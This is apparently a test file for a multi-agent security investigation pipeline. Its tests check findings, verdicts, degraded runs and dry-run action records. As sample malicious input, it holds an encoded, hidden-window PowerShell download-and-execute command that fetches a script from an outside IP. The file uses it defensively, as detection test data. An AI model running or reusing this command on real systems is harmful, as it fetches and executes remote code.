"""The investigation graph over real specialist servers on loopback ports."""

from __future__ import annotations

import base64
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from agents.acp.client import HandoffClient, RetryPolicy
from agents.acp.registry import AgentRegistry
from agents.catalog import load_specialist
from agents.runtime.specialist import AgentDeps, build_server
from core.llm.backend import LLMBackend
from core.settings import Settings
from orchestrator.context import GraphContext
from orchestrator.graph import build_graph
from orchestrator.planner import PlannerTools
from orchestrator.receipt import verify_receipt_chain
from tests.agents.acp.conftest import agent_token, token_service
from tests.agents.threat_intel.test_threat_intel import FEED
from tools.attack import AttackKB

AGENTS = ("threat_intel", "malware", "network", "responder")
ENCODED = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://45.33.32.156/a.ps1')".encode("utf-16-le")
).decode()


@pytest.fixture(scope="module")
def attack() -> AttackKB:
    return AttackKB.load()


@pytest.fixture
async def fleet(tmp_path: Path, attack: AttackKB) -> AsyncIterator[dict[str, Any]]:
    feed = tmp_path / "feed.json"
    feed.write_text(json.dumps(FEED))
    settings = Settings(data_dir=tmp_path / "data", intel_feeds=[feed])
    running: dict[str, Any] = {}
    for name in AGENTS:
        specialist = load_specialist(name)(AgentDeps(settings=settings, attack=attack))
        await specialist.start()
        listener = await build_server(specialist, settings, token_service()).start("127.0.0.1", 0)
        port = next(iter(listener.sockets)).getsockname()[1]
        running[name] = (specialist, listener, f"ws://127.0.0.1:{port}")
    try:
        yield running
    finally:
        for specialist, listener, _ in running.values():
            listener.close()
            await listener.wait_closed()
            await specialist.stop()


def client_for(fleet: dict[str, Any]) -> HandoffClient:
    return HandoffClient(
        registry=AgentRegistry({name: (url,) for name, (_, _, url) in fleet.items()}),
        sender="orchestrator",
        token=agent_token,
        retry=RetryPolicy(attempts=1),
        startup_grace=0,  # a stopped specialist is down, not starting
    )


SUBJECT = {
    "title": "Encoded PowerShell beaconing to a phishing server",
    "text": "User opened an attachment; powershell fetched a script from 45.33.32.156.",
    "iocs": [{"type": "ip", "value": "45.33.32.156"}],
    "command_lines": [f"powershell.exe -nop -w hidden -enc {ENCODED}"],
}


async def investigate(
    fleet: dict[str, Any],
    investigation_id: str,
    subject: dict[str, Any] = SUBJECT,
    *,
    llm: LLMBackend | None = None,
    **context: Any,
) -> dict[str, Any]:
    """One investigation in ``dry_run`` over ``fleet`` (the LLM plans when ``llm`` is given)."""
    client = client_for(fleet)
    available = frozenset(fleet)
    tools = PlannerTools(client, available) if llm is not None else None
    try:
        state: dict[str, Any] = await build_graph().ainvoke(
            {"investigation_id": investigation_id, "subject": subject, "mode": "dry_run"},
            context=GraphContext(
                client=client, available=available, llm=llm, planner_tools=tools, **context
            ),
        )
    finally:
        await client.close()
    return state


async def test_an_investigation_end_to_end(fleet: dict[str, Any]) -> None:
    state = await investigate(fleet, "INV-1")
    report = state["report"]
    agents = sorted(f["agent"] for f in report["findings"])
    assert {"threat_intel", "malware", "network"} <= set(agents)
    assert report["severity"] == "high"
    assert report["verdict"] == "malicious"
    assert report["degraded"] is False
    technique_ids = {t["id"] for t in report["techniques"]}
    assert "T1566.001" in technique_ids  # from the feed, via threat_intel
    assert "T1059.001" in technique_ids  # from the decoded command line, via malware
    assert any(len(t["agents"]) >= 1 for t in report["techniques"])
    assert report["tool_calls"]
    assert report["tool_call_chain"] == report["tool_calls"][-1]["chain"]
    assert report["response"]["agent"] == "responder"
    assert report["response"]["recommended_actions"]
    events = [e["event"] for e in state["timeline"]]
    assert events[:2] == ["intake", "plan"]
    assert events[-3:] == ["respond", "guardrails", "report"]
    # dry_run: every planned action is decided and recorded, none executed
    assert report["actions"]
    assert {a["status"] for a in report["actions"]} <= {"recorded", "denied"}
    assert all(a["guardrail"]["mode"] == "dry_run" for a in report["actions"])
    assert verify_receipt_chain(report)


async def test_a_dead_specialist_degrades_the_investigation(fleet: dict[str, Any]) -> None:
    _, listener, _ = fleet["malware"]
    listener.close()
    await listener.wait_closed()
    state = await investigate(fleet, "INV-2", call_timeout=5)
    report = state["report"]
    assert report["degraded"] is True
    assert [f["agent"] for f in report["failures"]] == ["malware"]
    assert "malware" not in {f["agent"] for f in report["findings"]}
    assert report["severity"] == "high"  # the others still concluded
    # From the ones that answered: the feed listing alone, uncorroborated without the malware
    # agent's detections.
    assert report["verdict"] == "suspicious"


async def test_every_specialist_failing_is_inconclusive_never_benign(
    fleet: dict[str, Any],
) -> None:
    for name in ("threat_intel", "malware", "network"):
        _, listener, _ = fleet[name]
        listener.close()
        await listener.wait_closed()
    state = await investigate(fleet, "INV-3", call_timeout=5)
    report = state["report"]
    assert report["verdict"] == "inconclusive"
    assert report["degraded"] is True
    assert report["findings"] == []
    assert sorted(f["agent"] for f in report["failures"]) == ["malware", "network", "threat_intel"]
    assert report["actions"] == []


async def test_each_action_says_where_its_target_came_from_and_what_corroborates_it(
    fleet: dict[str, Any],
) -> None:
    subject = {
        **SUBJECT,
        # the gateway's own detection named this one; a caller's claim would not be here
        "corroborations": [
            {"type": "ip", "value": "45.33.32.156", "kind": "telemetry", "source": "rule R-7"}
        ],
    }
    state = await investigate(fleet, "INV-P", subject)
    actions = {(a["action"], a["target"]): a for a in state["report"]["actions"]}
    blocked = actions[("block_ip", "45.33.32.156")]["provenance"]
    assert blocked["corroboration"] == "corroborated"
    assert {(c["agent"], c["kind"]) for c in blocked["corroborated_by"]} == {
        ("threat_intel", "threat_intel"),
        ("platform", "telemetry"),
    }
    assert {"agent": "malware", "kind": "command_line", "ref": "command_lines[0]"} in blocked[
        "origin"
    ]
    # the URL on the listed host is corroborated by the host's listing
    url = actions[("block_url", "http://45.33.32.156/a.ps1")]["provenance"]
    assert url["corroboration"] == "corroborated"
    assert url["origin"][0]["kind"] == "command_line"
    # dry_run keeps its behaviour: recorded, nothing runs, whatever the corroboration
    assert {a["status"] for a in state["report"]["actions"]} <= {"recorded", "denied"}
